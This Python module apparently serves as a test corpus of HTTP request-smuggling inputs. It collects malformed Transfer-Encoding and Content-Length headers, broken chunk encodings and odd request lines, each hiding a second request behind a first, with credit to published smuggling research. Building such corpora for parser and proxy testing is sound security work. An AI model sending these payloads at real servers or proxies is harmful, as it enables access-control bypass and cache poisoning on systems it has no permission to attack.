"""
Requests that two servers may understand differently.

Each head is followed by a body, in which an attacker hides a second request. Most are from James
Kettle's papers on request smuggling (PortSwigger, 2019, 2021, 2022, 2025), and from Kenballus' and
others' findings with the HTTP Garden.
"""

from __future__ import annotations

from collections.abc import Mapping

__all__ = ["AMBIGUOUS"]

#: What an attacker wants to bring past the proxy.
HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: a\r\n\r\n"

#: A body that is empty for those who read chunks, with the hidden request behind it.
CHUNKED = b"0\r\n\r\n" + HIDDEN

LENGTH = b"Content-Length: %d" % len(HIDDEN)
WHOLE = b"Content-Length: %d" % len(CHUNKED)


def request(*lines: bytes, first: bytes = b"POST /first HTTP/1.1", body: bytes = b"") -> bytes:
    """Make a request with a Host."""
    return b"\r\n".join([first, b"Host: a", *lines, b"", body])


def chunks(body: bytes) -> bytes:
    """Make a request whose body is in chunks."""
    return request(b"Transfer-Encoding: chunked", body=body)


#: How lines say that a body comes in chunks, or nearly.
CODINGS = {
    "a length too": b"Transfer-Encoding: chunked\r\n" + WHOLE,
    "a length before": WHOLE + b"\r\nTransfer-Encoding: chunked",
    "a space before the colon": WHOLE + b"\r\nTransfer-Encoding : chunked",
    "a tab before the colon": WHOLE + b"\r\nTransfer-Encoding\t: chunked",
    "a space before the name": WHOLE + b"\r\n Transfer-Encoding: chunked",
    "a vertical tab": WHOLE + b"\r\nTransfer-Encoding:\x0bchunked",
    "a form feed behind": WHOLE + b"\r\nTransfer-Encoding: chunked\x0c",
    "a tab": WHOLE + b"\r\nTransfer-Encoding:\tchunked",
    "a NUL": WHOLE + b"\r\nTransfer-Encoding: \x00chunked",
    "in quotes": WHOLE + b'\r\nTransfer-Encoding: "chunked"',
    "another word": WHOLE + b"\r\nTransfer-Encoding: xchunked",
    "identity before": WHOLE + b"\r\nTransfer-Encoding: identity, chunked",
    "identity behind": WHOLE + b"\r\nTransfer-Encoding: chunked, identity",
    "identity": WHOLE + b"\r\nTransfer-Encoding: identity",
    "gzip before": WHOLE + b"\r\nTransfer-Encoding: gzip, chunked",
    "twice in a line": WHOLE + b"\r\nTransfer-Encoding: chunked, chunked",
    "twice": WHOLE + b"\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "and another": WHOLE + b"\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "a comma behind": WHOLE + b"\r\nTransfer-Encoding: chunked,",
    "a parameter": WHOLE + b"\r\nTransfer-Encoding: chunked;a=b",
    "empty": WHOLE + b"\r\nTransfer-Encoding:",
    "capitals": WHOLE + b"\r\nTRANSFER-ENCODING: CHUNKED",
    "an underscore": WHOLE + b"\r\nTransfer_Encoding: chunked",
    "folded": WHOLE + b"\r\nTransfer-Encoding:\r\n chunked",
    "folded below another": WHOLE + b"\r\nX: y\r\n Transfer-Encoding: chunked",
    "behind a bare LF": WHOLE + b"\r\nX: y\nTransfer-Encoding: chunked",
    "behind a bare CR": WHOLE + b"\r\nX: y\rTransfer-Encoding: chunked",
    "behind two CRs": WHOLE + b"\r\nX: y\r\r\nTransfer-Encoding: chunked",
    "a connection option": WHOLE + b"\r\nTransfer-Encoding: chunked\r\n"
    b"Connection: Transfer-Encoding",
}

#: How lines say how long a body is, or nearly.
LENGTHS = {
    "twice": LENGTH + b"\r\n" + LENGTH,
    "twice in a line": LENGTH + b", %d" % len(HIDDEN),
    "two": LENGTH + b"\r\nContent-Length: 0",
    "two, the other way round": b"Content-Length: 0\r\n" + LENGTH,
    "two in a line": b"Content-Length: 0, %d" % len(HIDDEN),
    "a plus": b"Content-Length: +%d" % len(HIDDEN),
    "a minus": b"Content-Length: -%d" % len(HIDDEN),
    "hexadecimal": b"Content-Length: 0x%x" % len(HIDDEN),
    "an underscore in it": b"Content-Length: 0_%d" % len(HIDDEN),
    "zeros before": b"Content-Length: 000%d" % len(HIDDEN),
    "a space in it": b"Content-Length: 0 %d" % len(HIDDEN),
    "a fraction": LENGTH + b".0",
    "a letter behind": LENGTH + b"a",
    "other digits": "Content-Length: \u0663\u0665".encode(),
    "more than 64 bits": b"Content-Length: %d" % (2**64 + len(HIDDEN)),
    "empty": b"Content-Length:",
    "a space before the colon": b"Content-Length : %d" % len(HIDDEN),
    "a tab before the colon": b"Content-Length\t: %d" % len(HIDDEN),
    "folded": b"Content-Length:\r\n %d" % len(HIDDEN),
    "folded below another": b"X: y\r\n " + LENGTH,
    "behind a bare LF": b"X: y\n" + LENGTH,
    "behind a bare CR": b"X: y\r" + LENGTH,
    "an underscore": b"Content_Length: %d" % len(HIDDEN),
    "a connection option": LENGTH + b"\r\nConnection: Content-Length",
    "an expectation": LENGTH + b"\r\nExpect: y 100-continue",
}

#: Bodies in chunks, or nearly.
CHUNKS = {
    "LF behind the size": b"5\nhello\r\n0\r\n\r\n" + HIDDEN,
    "CR behind the size": b"5\rhello\r\n0\r\n\r\n" + HIDDEN,
    "LF behind the data": b"5\r\nhello\n0\r\n\r\n" + HIDDEN,
    "nothing behind the data": b"5\r\nhello0\r\n\r\n" + HIDDEN,
    "anything behind the data": b"5\r\nhelloxx0\r\n\r\n" + HIDDEN,
    "LF behind the last": b"0\n\n" + HIDDEN,
    "LF in an extension": b"5;a\nb\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "CR in an extension": b"5;a\rb\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "two CRs behind an extension": b"5;a\r\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "an extension that hides a chunk": b"2;\nxx\r\n%x\r\n0\r\n\r\n%s\r\n0\r\n\r\n"
    % (len(HIDDEN) + 5, HIDDEN),
    "a quoted extension": b'5;a="\r\nhello\r\n0\r\n\r\n' + HIDDEN,
    "0x": b"0x5\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "a plus": b"+5\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "a minus": b"-5\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "an underscore": b"0_5\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "a space before": b" 5\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "a space behind": b"5 \r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "zeros before": b"00005\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "more than 64 bits": b"10000000000000005\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "no size": b"\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "a trailer with a length": b"0\r\n" + LENGTH + b"\r\n\r\n" + HIDDEN,
    "a trailer without a colon": b"0\r\nX\r\n\r\n" + HIDDEN,
    "a trailer behind LF": b"0\r\nX: y\n\n" + HIDDEN,
}

#: First lines, or nearly.
FIRST_LINES = {
    "two spaces": b"GET  /first HTTP/1.1",
    "a tab": b"GET\t/first HTTP/1.1",
    "a space in the target": b"GET /first /second HTTP/1.1",
    "a space before": b" GET /first HTTP/1.1",
    "a space behind": b"GET /first HTTP/1.1 ",
    "an empty line before": b"\r\nGET /first HTTP/1.1",
    "LF before": b"\nGET /first HTTP/1.1",
    "two CRs behind": b"GET /first HTTP/1.1\r",
    "small letters": b"get /first HTTP/1.1",
    "an unknown method": b"FIRST /first HTTP/1.1",
    "a strange method": b"GET! /first HTTP/1.1",
    "another version": b"GET /first HTTP/1.2",
    "HTTP/2": b"GET /first HTTP/2.0",
    "a long version": b"GET /first HTTP/1.10",
    "small letters in the version": b"GET /first http/1.1",
    "an absolute target": b"GET http://a/first HTTP/1.1",
    "an absolute target of another host": b"GET http://b/first HTTP/1.1",
    "an absolute target with a user": b"GET http://b@a/first HTTP/1.1",
    "an absolute target without a path": b"GET http://a HTTP/1.1",
    "no slash": b"GET first HTTP/1.1",
    "two slashes": b"GET //b/first HTTP/1.1",
    "a fragment": b"GET /first#second HTTP/1.1",
    "dots": b"GET /a/../first HTTP/1.1",
    "escaped dots": b"GET /a/%2e%2e/first HTTP/1.1",
    "a backslash": b"GET /a\\..\\first HTTP/1.1",
    "a NUL": b"GET /first\x00 HTTP/1.1",
    "an escaped NUL": b"GET /first%00 HTTP/1.1",
    "escaped line ends": b"GET /first%0d%0aHost:%20b HTTP/1.1",
    "bytes beyond ASCII": b"GET /first\xff HTTP/1.1",
    "a bare CR": b"GET /first\rsecond HTTP/1.1",
    "HEAD with a length": b"HEAD /first HTTP/1.1\r\n" + LENGTH,
    "OPTIONS of everything": b"OPTIONS * HTTP/1.1",
    "CONNECT": b"CONNECT a:80 HTTP/1.1",
    "a second host": b"GET /first HTTP/1.1\r\nHost: b",
    "a second host in the same line": b"GET /first HTTP/1.1\r\nHost: b, a",
    "a second host, folded": b"GET /first HTTP/1.1\r\nX: y\r\n Host: b",
    "a space behind Host": b"GET /first HTTP/1.1\r\nHost : b",
    "an upgrade to HTTP/2": b"GET /first HTTP/1.1\r\nConnection: Upgrade, HTTP2-Settings\r\n"
    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    "an upgrade to a WebSocket without a key": b"GET /echo HTTP/1.1\r\nConnection: Upgrade\r\n"
    b"Upgrade: websocket\r\nSec-WebSocket-Version: 13",
    "an upgrade to a WebSocket of another version": b"GET /echo HTTP/1.1\r\nConnection: Upgrade\r\n"
    b"Upgrade: websocket\r\nSec-WebSocket-Version: 9\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
}

#: All of them, by what is strange about them.
AMBIGUOUS: Mapping[str, bytes] = {
    **{f"chunked: {name}": request(line, body=CHUNKED) for name, line in CODINGS.items()},
    **{f"length: {name}": request(line, body=HIDDEN) for name, line in LENGTHS.items()},
    **{f"chunks: {name}": chunks(body) for name, body in CHUNKS.items()},
    **{
        f"first line: {name}": request(first=line, body=HIDDEN if b"Length" in line else b"")
        for name, line in FIRST_LINES.items()
    },
    "HTTP/1.0 with chunks": request(
        b"Transfer-Encoding: chunked",
        b"Connection: keep-alive",
        first=b"POST /first HTTP/1.0",
        body=CHUNKED,
    ),
    "HTTP/0.9": b"GET /first\r\n\r\n",
    "no host": b"GET /first HTTP/1.1\r\n\r\n",
    "a line without a colon": request(b"Transfer-Encoding chunked", LENGTH, body=HIDDEN),
    "a line without a name": request(b": chunked", LENGTH, body=HIDDEN),
    "GET with a body": request(LENGTH, first=b"GET /first HTTP/1.1", body=HIDDEN),
}
